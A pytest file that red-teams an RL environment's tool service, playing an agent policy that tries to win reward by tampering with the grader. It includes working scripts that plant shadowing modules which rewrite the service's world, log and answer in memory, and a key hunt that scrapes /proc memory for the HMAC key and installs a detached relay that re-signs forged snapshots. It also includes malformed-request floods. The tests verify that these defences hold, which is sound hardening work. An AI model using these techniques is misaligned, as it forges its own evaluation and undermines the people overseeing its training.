"""Red team against the Claw tool service, played as the policy (bash in its sandbox), on the
local backend (bubblewrap and zygote spawners) and in a container.

1. A module planted in the workdir under a name the service would import on an error path
   (`traceback`, which socketserver imports to report a request that blew up) is never
   imported, however the policy makes requests blow up; on main it ran inside the service,
   rewrote the world and the call log, and earned the reward.
2. The policy cannot read the service's memory (the HMAC key), so it cannot re-sign a
   forged snapshot; with a dumpable service it finds the key and earns the reward.
3. Garbage requests (nesting 100k deep, 10**100000, bad UTF-8, wrong types, a huge body)
   each get an error answer and the service still answers the next request.
4. The import guard's seal, on its own: once sealed, nothing is imported, not even a module
   from a folder on the import path.

Each test says which defence it covers; docs/claw.md ("The world: one service process per sandbox")
describes them and what holds on each backend.
"""

from __future__ import annotations

import asyncio
import json
import subprocess
import sys

import pytest

from conftest import fake_k8s_unavailable, needs, needs_bwrap

from orchard_gym import AsyncSandboxClient
from orchard_gym.envs.claw.deploy import source
from orchard_gym.envs.claw.env import ClawEnv
from orchard_gym.envs.claw.sandbox.claw_service import MAX_REQUEST, World, canonical
from orchard_gym.envs.claw.tasks import load_tasks

TASKS = load_tasks("builtin")
TASK_ID = "todo-cleanup-001"  # doing nothing scores 0.0, the oracle 1.0


def _docker_why_not() -> str | None:
    from conftest import docker_engine

    return docker_engine()[1] or None


BACKENDS = [
    pytest.param("bwrap", id="local-bwrap", marks=[needs_bwrap]),
    pytest.param("zygote", id="local-zygote", marks=[needs_bwrap]),
    pytest.param("docker", id="docker", marks=[pytest.mark.docker, needs("docker", _docker_why_not())]),
    # the fake cluster (tests/fake_k8s): the real client and pod spec, pods run by Podman
    pytest.param("kubernetes", id="kubernetes",
                 marks=[pytest.mark.kubernetes, needs("kubernetes", fake_k8s_unavailable())]),
]
BUSYBOX = "localhost/orchard/busybox:latest"  # no Python in the image: the service runs on the agent bundle's


@pytest.fixture
def backend(request, kind, local_root) -> tuple[dict, str | None]:
    if kind == "docker":
        return {"type": "docker"}, BUSYBOX
    if kind == "kubernetes":
        return request.getfixturevalue("fake_k8s").backend_config(), BUSYBOX
    return {"type": "local", "root": str(local_root), "isolation": "bwrap", "spawner": kind}, None


def _solved() -> dict:
    """The oracle's final world and call log: what a forger wants the grader to see."""
    task = TASKS[TASK_ID]
    world = World(task.seed, [], task.allowed)
    for c in task.oracle:
        world.call(c["name"], c["arguments"])
    return {"state": world.state, "log": world.log}


async def _episode(backend: tuple[dict, str | None], attack, task_id: str = TASK_ID,
                   tasks="builtin") -> tuple[dict, dict]:
    """Reset, let `attack(env, service, bash)` act as the policy, submit: (report, what the attack saw)."""
    config, image = backend
    async with AsyncSandboxClient(config) as client:
        env = ClawEnv(client=client, tasks=tasks, bash=True, image=image)
        await env.areset(options={"task_id": task_id})
        service = env.ctx.state["service"]

        async def bash(command: str) -> str:
            obs, *_ = await env.astep({"name": "bash", "arguments": {"command": command}})
            return obs

        seen = await attack(env, service, bash)
        _, reward, terminated, _, info = await env.astep({"name": "submit", "arguments": {}})
        await env.aclose()
    assert terminated
    return info["report"], seen


async def _run_script(env, service, bash, name: str, text: str, *args: str) -> str:
    """Write a script into the workdir (as the policy could, with bash) and run it on the
    interpreter the sandbox has (the agent's: busybox has no other)."""
    await env.sandbox.upload_content(text.encode(), f"{env.ctx.cwd}/{name}")
    python = " ".join(_sh(a) for a in service.python)
    return await bash(f"{python} {name} " + " ".join(_sh(a) for a in args))


def _sh(text: str) -> str:
    return "'" + text.replace("'", "'\\''") + "'"


# ------------------------------------------------------------------ 1. planted modules
PLANT = r"""
import gc, json, os
FORGED = json.loads(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "forged.json")).read())
hits = 0
for o in gc.get_objects():
    if type(o).__name__ == "World" and hasattr(o, "log"):  # the service's world: rewrite it and its log
        o.state, o.log, hits = FORGED["state"], FORGED["log"], hits + 1
    if type(o).__name__ == "DojoWorld":  # AgentDojo's: the ground-truth answer (enough for a lookup task)
        o.answer, hits = FORGED["answer"], hits + 1
with open(os.path.join(FORGED["workdir"], "planted-ran"), "a") as f:
    f.write(f"{__name__} {os.getpid()} worlds={hits}\n")
# then be the module it shadows, so that nothing else goes wrong in the process it runs in
import importlib.machinery, importlib.util, sys
planted = {os.path.dirname(os.path.abspath(__file__)), FORGED["workdir"]}
spec = importlib.machinery.PathFinder.find_spec(__name__, [p for p in sys.path if p and os.path.abspath(p) not in planted])
if spec is not None:
    real = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(real)
    globals().update({k: v for k, v in vars(real).items() if not k.startswith("__")})
"""

# names the service would import late (socketserver's handle_error: traceback, which pulls
# linecache and tokenize; datetime.strptime: _strptime), planted next to the service's old
# files and at the workdir's top
PLANTED = ["traceback", "linecache", "tokenize", "_strptime"]

# Requests that blew up inside the service on main (an exception its handler did not catch):
# JSON nested past the recursion limit, and arguments deep enough to exhaust it in deepcopy;
# then a call that parses a date (an AgentDojo tool; an unknown tool to the Claw service).
BLOW_UP = r"""
import json, socket, sys
def send(data):
    c = socket.socket(socket.AF_UNIX)
    c.settimeout(60); c.connect(sys.argv[1]); c.sendall(data); c.shutdown(socket.SHUT_WR)
    out = b""
    while True:
        chunk = c.recv(65536)
        if not chunk:
            return out.decode("utf-8", "replace")
        out += chunk
print(json.dumps([send(b"[" * 100000 + b"]" * 100000),
                  send(b'{"op": "call", "tool": "todo_list", "args": {"x": ' + b"[" * 900 + b"]" * 900 + b"}}"),
                  send(b'{"op": "call", "tool": "get_day_calendar_events", "args": {"day": "2024-05-15"}}'),
                  send(b'{"op": "health"}')]))
"""


async def _plant_and_blow_up(env, service, bash, forged: dict) -> dict:
    """The policy plants PLANTED in `.claw/` and the workdir, checks the plant is live code
    (positive control: an interpreter with `.claw` on its path runs it), then sends BLOW_UP."""
    cwd = env.ctx.cwd
    forged = dict(forged, workdir=cwd)
    for folder in (service.home, cwd):
        await env.sandbox.upload_content(json.dumps(forged).encode(), f"{folder}/forged.json")
        for name in PLANTED:
            await env.sandbox.upload_content(PLANT.encode(), f"{folder}/{name}.py")
    python = " ".join(_sh(a) for a in service.python)
    control = await bash(f"{python} -c 'import sys; sys.path.insert(0, \".claw\"); import traceback' && "
                         f"cat planted-ran && rm planted-ran")
    answers = json.loads((await _run_script(env, service, bash, "blow_up.py", BLOW_UP, service.socket))
                         .strip().splitlines()[-1])
    ran = await bash("cat planted-ran 2>/dev/null || echo 'not imported'")
    return {"control": control, "answers": answers, "ran": ran}


def _check_not_imported(seen: dict) -> None:
    assert "traceback" in seen["control"] and "worlds=0" in seen["control"], seen["control"]
    assert "not imported" in seen["ran"], seen["ran"]
    nested, deep_args, _, health = (json.loads(a) for a in seen["answers"])
    assert not nested["ok"] and "nested too deeply" in nested["error"]
    assert not deep_args["ok"] and "nested too deeply" in deep_args["error"]
    assert health["ok"] and health["hardened"]


@pytest.mark.parametrize("kind", BACKENDS)
def test_a_module_planted_in_the_workdir_never_runs_in_the_service(backend):
    """Defence: the service's code comes over stdin to an isolated interpreter (`-I`: no
    workdir, no script folder on sys.path), every request's error is answered, and imports
    are sealed once it serves. On main: `traceback.py` in `.claw/` ran in the service on the
    first request that blew up, rewrote the world and the log, and the reward was 1.0."""

    async def attack(env, service, bash):
        return await _plant_and_blow_up(env, service, bash, dict(_solved(), answer=None))

    report, seen = asyncio.run(_episode(backend, attack))
    _check_not_imported(seen)
    assert report["task_score"] == 0.0 and not report["passed"] and not report.get("service_error")


DOJO_TASK = "agentdojo-workspace-user_task_0"  # a lookup: AgentDojo's utility check reads the answer


@pytest.mark.slow
@needs_bwrap
def test_a_module_planted_in_the_workdir_never_runs_in_the_agentdojo_service(local_root):
    """The same for the AgentDojo service (local backend: its Python is the host's cached venv,
    not -S). On main it ran as a script from `.claw/`, so the first date parsed imported
    `.claw/_strptime.py`, which set the ground-truth answer: AgentDojo's utility check passed."""
    tasks = load_tasks("agentdojo:workspace")
    truth = tasks[DOJO_TASK].oracle[-1]["arguments"]["text"]

    async def attack(env, service, bash):
        return await _plant_and_blow_up(env, service, bash, {"state": None, "log": None, "answer": truth})

    backend = ({"type": "local", "root": str(local_root), "isolation": "bwrap"}, None)
    report, seen = asyncio.run(_episode(backend, attack, DOJO_TASK, tasks))
    _check_not_imported(seen)
    assert json.loads(seen["answers"][2])["ok"]  # the date was parsed (imports warmed up before the seal)
    assert report["completion"] == 0.0 and not report["passed"] and not report.get("service_error")


# ------------------------------------------------------------------ 2. the key
# The policy asks the service for a snapshot of its own (a nonce it chose), then looks for the
# HMAC key in the service's memory: a 32-byte bytes object (ob_size 32, the hash, the data,
# a NUL) whose HMAC of that payload is the MAC it got. With the key it puts a relay on the
# service's socket that re-signs every snapshot with the oracle's world and log.
KEY_HUNT = r"""
import hashlib, hmac, json, os, socket, sys
sock, forged_file = sys.argv[1], sys.argv[2]

def ask(path, data):
    c = socket.socket(socket.AF_UNIX); c.connect(path); c.sendall(data); c.shutdown(socket.SHUT_WR)
    out = b""
    while True:
        chunk = c.recv(1 << 20)
        if not chunk:
            return out
        out += chunk

pid = json.loads(ask(sock, b'{"op": "health"}'))["pid"]
snap = json.loads(ask(sock, json.dumps({"op": "snapshot", "nonce": "p" * 32}).encode()))
payload, mac = snap["payload"].encode(), snap["mac"]
seen = {"pid": pid, "environ": None, "mem": None, "key": None}
try:
    open(f"/proc/{pid}/environ", "rb").read()
    seen["environ"] = "read"
except OSError as e:
    seen["environ"] = e.strerror
SIZE32 = (32).to_bytes(8, "little")
try:
    maps = open(f"/proc/{pid}/maps").read().splitlines()
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
        for line in maps:
            span, perms = line.split()[:2]
            if not perms.startswith("rw") or seen["key"]:
                continue
            lo, hi = (int(x, 16) for x in span.split("-"))
            try:
                mem.seek(lo)
                data = mem.read(hi - lo)
            except OSError:
                continue
            seen["mem"] = "read"
            i = data.find(SIZE32)
            while i != -1 and not seen["key"]:
                key = data[i + 16:i + 48]
                if data[i + 48:i + 49] == b"\0" and hmac.new(key, payload, hashlib.sha256).hexdigest() == mac:
                    seen["key"] = key.hex()
                i = data.find(SIZE32, i + 1)
except OSError as e:
    seen["mem"] = seen["mem"] or e.strerror
print(json.dumps(seen), flush=True)
if not seen["key"]:
    sys.exit(0)
key, forged = bytes.fromhex(seen["key"]), json.load(open(forged_file))
os.rename(sock, sock + ".real")
server = socket.socket(socket.AF_UNIX); server.bind(sock); server.listen(16)
if os.fork():
    sys.exit(0)
os.setsid()
null = os.open(os.devnull, os.O_RDWR)
for fd in (0, 1, 2):
    os.dup2(null, fd)
while True:
    conn, _ = server.accept()
    data = b""
    while True:
        chunk = conn.recv(1 << 20)
        if not chunk:
            break
        data += chunk
    answer = json.loads(ask(sock + ".real", data))
    if json.loads(data).get("op") == "snapshot" and answer.get("ok"):
        body = json.loads(answer["payload"])
        body.update(state=forged["state"], log=forged["log"])
        text = json.dumps(body, sort_keys=True, separators=(",", ":"))
        answer = {"ok": True, "payload": text, "mac": hmac.new(key, text.encode(), hashlib.sha256).hexdigest()}
    conn.sendall(json.dumps(answer).encode())
    conn.close()
"""


@pytest.mark.parametrize("kind", BACKENDS)
def test_the_policy_cannot_read_the_key_so_cannot_sign_a_forged_world(backend):
    """Defence: the key lives only in the memory of the env and of the service, which is
    non-dumpable (PR_SET_DUMPABLE 0: no /proc/PID/mem, maps or environ, no ptrace for the
    policy's processes, which have no CAP_SYS_PTRACE on any backend). With a dumpable
    service the hunt finds the key and the forged world is graded 1.0."""

    async def attack(env, service, bash):
        await env.sandbox.upload_content(json.dumps(_solved()).encode(), f"{env.ctx.cwd}/forged.json")
        out = await _run_script(env, service, bash, "key_hunt.py", KEY_HUNT, service.socket, "forged.json")
        return json.loads(out.strip().splitlines()[-1])

    report, seen = asyncio.run(_episode(backend, attack))
    assert seen["key"] is None and seen["mem"] != "read" and seen["environ"] != "read", seen
    assert report["task_score"] == 0.0 and not report["passed"], report
    assert report["hardened"]


# ------------------------------------------------------------------ 3. garbage
GARBAGE = r"""
import json, socket, sys
def send(data):
    c = socket.socket(socket.AF_UNIX); c.settimeout(120); c.connect(sys.argv[1])
    try:
        c.sendall(data)
        c.shutdown(socket.SHUT_WR)
    except OSError as e:
        return f"send failed: {e}"
    out = b""
    while True:
        chunk = c.recv(65536)
        if not chunk:
            return out.decode("utf-8", "replace")
        out += chunk
huge = int(sys.argv[2]) + 1
garbage = {
    "nested 100k deep": b"[" * 100000 + b"]" * 100000,
    "objects 100k deep": b'{"a":' * 100000 + b"1" + b"}" * 100000,
    "args 900 deep": b'{"op": "call", "tool": "todo_list", "args": {"x": ' + b"[" * 900 + b"]" * 900 + b"}}",
    "10**100000": b'{"op": "call", "tool": "todo_list", "args": {"x": 1' + b"0" * 100000 + b"}}",
    "1e400": b'{"op": "call", "tool": "todo_list", "args": {"x": 1e400}}',
    "NaN": b'{"op": "health", "x": NaN}',
    "bad UTF-8": b'{"op": "call", "tool": "todo_\xff\xfe"}',
    "lone surrogate": b'{"op": "call", "tool": "\\ud800", "args": {}}',
    "not JSON": b"{nope",
    "empty": b"",
    "a list": b"[1, 2]",
    "op not a string": b'{"op": ["call"]}',
    "tool an object": b'{"op": "call", "tool": {"a": 1}, "args": [1]}',
    "args a string": b'{"op": "call", "tool": "todo_list", "args": "x"}',
    "nonce a number": b'{"op": "snapshot", "nonce": 12345678901234567890}',
    "huge body": b" " * huge,
}
out = {}
for name, data in garbage.items():
    answer = send(data)
    health = send(b'{"op": "health"}')
    out[name] = [answer[:300], health]
print(json.dumps(out))
"""


@pytest.mark.parametrize("kind", BACKENDS)
def test_garbage_requests_get_an_error_and_the_service_goes_on(backend):
    """Defence: every request is bounded (size, depth, number length) and answered, whatever
    it makes go wrong. On main the 100k-deep request got no answer at all (its handler thread
    died in socketserver's error path) and the huge body a broken pipe."""

    async def attack(env, service, bash):
        pid = (await service.request({"op": "health"}))["pid"]
        out = await _run_script(env, service, bash, "garbage.py", GARBAGE, service.socket, str(MAX_REQUEST))
        return {"pid": pid, "answers": json.loads(out.strip().splitlines()[-1])}

    report, seen = asyncio.run(_episode(backend, attack))
    for name, (answer, health) in seen["answers"].items():
        answer = json.loads(answer) if answer.startswith("{") else answer
        assert isinstance(answer, dict) and answer["ok"] is False and answer["error"], (name, answer)
        assert json.loads(health)["pid"] == seen["pid"], (name, health)
    assert "too large" in json.loads(seen["answers"]["huge body"][0])["error"]
    assert "UTF-8" in json.loads(seen["answers"]["bad UTF-8"][0])["error"]
    assert "characters" in json.loads(seen["answers"]["10**100000"][0])["error"]
    assert not report.get("service_error") and report["hardened"]  # the snapshot still verified


# ------------------------------------------------------------------ 4. the seal
SEALED = r'''
import sys

def main(argv, seal):
    sys.path.insert(0, argv[0])  # as if the interpreter's library were a folder the policy can write
    import planted_early  # noqa: F401  (before the seal: loaded, and its folder reported)
    writable = seal()
    try:
        import planted_late  # noqa: F401
        print("imported after the seal")
    except ImportError as e:
        print("refused:", e)
    print("writable:", writable)
    return 0
'''


def test_a_sealed_interpreter_imports_nothing_even_from_its_import_path(tmp_path):
    """Defence (claw_boot's ImportGuard): after `seal()` every import is refused, so a module
    planted where the service's library is (a writable bundle, a renamed folder) never loads
    once the policy can act; before it, code from a writable place is reported (and the
    service is not `hardened`). With the seal a no-op, `planted_late` runs."""
    lib = tmp_path / "lib"
    lib.mkdir()
    for name in ("planted_early", "planted_late"):
        (lib / f"{name}.py").write_text(f"open({str(tmp_path / name)!r}, 'w').close()\n")
    header = json.dumps({"modules": [["sealed_main", SEALED]], "main": "sealed_main"})
    r = subprocess.run([sys.executable, "-I", "-S", "-B", "-c", source("claw_boot.py"), str(lib)], input=header + "\n",
                       capture_output=True, text=True, timeout=60, cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    assert "refused: import of 'planted_late' refused" in r.stdout, r.stdout
    assert (tmp_path / "planted_early").exists() and not (tmp_path / "planted_late").exists()
    assert str(lib) in r.stdout  # the writable folder the early import came from is reported


def test_the_decoder_bounds_depth_in_process():
    """The decoder's bounds, without a sandbox: canonical text of a bounded request round-trips."""
    from orchard_gym.envs.claw.sandbox.claw_service import MAX_DEPTH, decode

    ok = {"op": "call", "tool": "todo_list", "args": {"x": [[["a"]]]}}
    assert decode(canonical(ok).encode()) == (ok, True)
    deep = ("[" * (MAX_DEPTH + 1) + "]" * (MAX_DEPTH + 1)).encode()
    assert "nested too deeply" in decode(deep)[0]["error"]
    assert decode(("[" * MAX_DEPTH + "]" * MAX_DEPTH).encode())[1]
